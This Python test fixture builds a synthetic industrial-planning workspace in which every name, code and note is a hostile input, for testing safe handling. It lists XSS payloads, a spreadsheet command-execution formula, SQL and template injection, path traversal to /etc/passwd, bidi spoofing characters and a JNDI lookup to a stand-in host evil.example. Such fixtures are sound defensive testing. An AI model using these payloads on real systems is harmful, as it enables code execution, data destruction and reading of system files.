"""A workspace in which everybody who typed a name, a code or a note was hostile. Synthetic throughout.

Names hold markup, formulas, links, templates, controls and signs that turn the direction; codes hold everything
that means something in an address. Some rows are rejected, some figures withheld, notes are written.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import numpy as np

from industria.plan.writing import write_plan
from tests.web.hostile_firms import firm_tables

OVERRIDE, ISOLATE, ZERO, MARK = "\u202e", "\u2067", "\u200b", "\ufeff"
LONG = "W" * 1900
FLOOD = "e" + "\u0301\u0489" * 400
NAMES = (
    "<script>window.hacked=1</script>", "<img src=x onerror=window.hacked=1>", '"><svg onload=window.hacked=1>',
    "</title></text></svg><script>window.hacked=1</script>", "[click](javascript:window.hacked=1)",
    "javascript:alert(1)", "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>", "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "-2+3",
    "\t=1+1", " =1+1", "＝1+1", f"{OVERRIDE}gnp.exe{ISOLATE}", f"{ZERO}={MARK}1+1", "bell\x07null\x01esc\x1b[31m",
    FLOOD, LONG, "../../etc/passwd", "%2e%2e%2f%00", '#let x = read("/etc/passwd") $x$ *b* _i_ @a <l> `c`',
    "'); DROP TABLE entry;--", "&lt;b&gt;&amp;&#60;", "]]><!-- --><![CDATA[", "https://evil.example/x.png",
    "file:///etc/passwd", "\u2066\u202dabc", "<style>*{display:none}</style>", '<a href="javascript:x()">a</a>',
    "<math><mi xlink:href=javascript:x()>", "__proto__ constructor", "${jndi:ldap://evil.example/a}",
)  # fmt: skip
"""Names, each hostile in its own way."""

CLUSTER_CODES = ("a/b", "q?x=1#y", "c&d=%2F", "“引”'\"<b>", "e//f", "../g", "nul%00h", "__proto__")
"""Codes of clusters; a plan allows no blanks, dots or square brackets in them."""
CLUSTER_CODES = tuple(code.replace(".", "·") for code in CLUSTER_CODES)
REGION_CODES = ("D/1", "D?2#", "D&3=%41", "<d>4", "区5'\"", "D//6", "{7}", "=8")
FIRM_CODES = (
    "F/1", "F 2?x=1&y=2#z", "../../etc/passwd", "F'4\"", "<b>5", "企业6", "=F7", "F%2f8", "F\\9", "F;10,{11}",
    f"F{OVERRIDE}12", "F" * 300,
)  # fmt: skip
"""Codes of enterprises, taken from a register that allows any text."""
INDICATOR = "high/tech?#&%"

SETTINGS = """\
[workspace]
name_en = "<script>window.hacked=1</script> city"
name_zh = "=1+1 <img src=x onerror=window.hacked=1> 市"
synthetic = true
"""


def _name(at: int) -> dict[str, str]:
    return {"name_en": NAMES[at % len(NAMES)], "name_zh": NAMES[(at + 7) % len(NAMES)] or "无"}


def _sourced(at: int) -> dict[str, Any]:
    source = f"{NAMES[(at + 5) % len(NAMES)]} https://evil.example/{at} https://www.gov.cn/{at}"
    return {"source": [source], "confidence": "inferred"}


def _said(at: int) -> dict[str, Any]:
    return {**_sourced(at), "note": NAMES[(at + 3) % len(NAMES)]}


def plan() -> dict[str, Any]:
    """A plan whose every text is hostile."""
    leaves = ("36", "39", "13", "34", "35", "38", "40", "27")
    return {
        "region": {
            "id": "CITY", "plan_from": 2022, "plan_to": 2027, **_said(0),
            "name_en": f"{OVERRIDE}{NAMES[0]}{ZERO} city", "name_zh": LONG,
        },
        "classification": {"id": "GB/T 4754-2017"},
        "tiers": [
            {"id": "<t>'1", "scale": {"value": 10, "unit": "亿元"}, "count": 8, **_name(1), **_said(1)},
            {"id": "empty", **_name(4)},
        ],
        "clusters": [
            {
                "id": code, "tier": "<t>'1", "partition": [leaf], **_name(at + 2), **_said(at + 2),
                "segments": [{"name_zh": NAMES[(at + 9) % len(NAMES)], "name_en": NAMES[(at + 2) % len(NAMES)]}],
                "tags": [{"kind": "product", "tag": NAMES[(at + 1) % len(NAMES)], "evidence": NAMES[at], **_sourced(at)}],
            }
            for at, (code, leaf) in enumerate(zip(CLUSTER_CODES, leaves, strict=True))
        ],
        "industries": [
            {"code": f"{leaf}{end}", **_name(at * 3 + end)}
            for at, leaf in enumerate(leaves)
            for end in (11, 12, 13, 14)
        ] + [{"code": leaf, **_name(at + 5)} for at, leaf in enumerate(leaves)],
        "regions": [
            {"id": code, "kind": "district", **_name(at + 12), **_said(at + 12)} for at, code in enumerate(REGION_CODES)
        ],
        "indicators": [
            {"id": INDICATOR, "unit": "<u>firms", "nature": "stock", **_name(20)},
            {"id": "gdp", "unit": "亿元", **_name(7)},
        ],
        "targets": [
            {
                "id": f"t/{at}?#&", "indicator": INDICATOR, "year": 2027, "value": 12000 + at, "unit": "<u>firms",
                "baseline": {"year": 2022, "value": 6348}, "document": NAMES[(at + 11) % len(NAMES)],
                **_name(at + 21), **_said(at + 21),
            }
            for at in range(4)
        ],
        "chains": [
            {
                "id": "ch/1", "cluster": CLUSTER_CODES[0], **_name(24), **_said(24),
                "nodes": [{"id": "n/1", **_name(25)}, {"id": "n?2", **_name(26)}], "edges": [["n/1", "n?2"]],
            }
        ],
        "scenarios": [{"id": "s", **_name(27)}, {"id": "s2", **_name(28)}],
    }  # fmt: skip


def _table(head: tuple[str, ...], rows: list[tuple[Any, ...]]) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(head)
    writer.writerows(rows)
    return buffer.getvalue()


def _source(table: str, at: int) -> str:
    constants = (
        '\nconstants = { classification = "GB/T 4754-2017" }' if table in ("activity", "enterprises") else ""
    )
    return (
        f'\n[[sources]]\ntable = "{table}"\nfile = "data/{table}.csv"\norigin = "synthetic"\n'
        f'source = "<b>{at}</b> =1+1 javascript:x()"\nconfidence = "inferred"\nmoney_unit = "万元"{constants}\n'
    )


def write_hostile(folder: Path, seed: int = 7) -> Path:
    """Write the workspace: nine tables, a plan, settings. Some of its rows are wrong on purpose."""
    (folder / "data").mkdir(parents=True)
    (folder / "plan.toml").write_text(write_plan(plan()), encoding="utf-8")
    tables = {"activity": _activity(seed), "enterprises": _enterprises(seed), "indicators": _indicators()}
    tables |= firm_tables(_table, FIRM_CODES, NAMES, REGION_CODES, CLUSTER_CODES)
    settings = SETTINGS + "".join(_source(name, at) for at, name in enumerate(tables))
    (folder / "industria.toml").write_text(settings, encoding="utf-8")
    for name, text in tables.items():
        (folder / "data" / f"{name}.csv").write_text(text, encoding="utf-8")
    return folder


def _activity(seed: int) -> str:
    rng = np.random.default_rng(seed)
    rows: list[tuple[Any, ...]] = []
    for region in REGION_CODES:
        for leaf in ("36", "39", "13", "34", "35", "38", "40", "27"):
            for end in (11, 12, 13, 14):
                for year in (2023, 2024):
                    row = (
                        int(rng.integers(1_000, 90_000)),
                        int(rng.integers(10, 900)),
                        int(rng.integers(1, 30)),
                    )
                    rows.append((region, f"{leaf}{end}", year, *row))
    rows += [(REGION_CODES[0], "3611", 2024, name, 1, 1) for name in NAMES[:12]]
    rows += [(name[:60], "3612", 2024, 5, 1, 1) for name in NAMES[:12]]
    return _table(("region", "industry", "period", "output", "employment", "establishments"), rows)


def _enterprises(seed: int) -> str:
    rng = np.random.default_rng(seed)
    rows = [
        (code, 2024, NAMES[(at + 1) % len(NAMES)], NAMES[at], REGION_CODES[at % 8], f"36{11 + at % 4}",
         int(rng.integers(1000, 9000)), NAMES[(at + 2) % len(NAMES)])
        for at, code in enumerate(FIRM_CODES)
    ]  # fmt: skip
    return _table(
        ("enterprise", "period", "name_zh", "name_en", "region", "industry", "output", "products"), rows
    )


def _indicators() -> str:
    rows: list[tuple[Any, ...]] = [
        (INDICATOR, year, 6348 + at * 900, "<u>firms") for at, year in enumerate((2022, 2023, 2024))
    ]
    rows += [("gdp", name[:40], 5, "亿元") for name in NAMES[:6]]
    rows += [("gdp", 2023, 812.5, "亿元"), ("gdp", 2024, 850.25, "亿元")]
    return _table(("indicator", "period", "level", "unit"), rows)
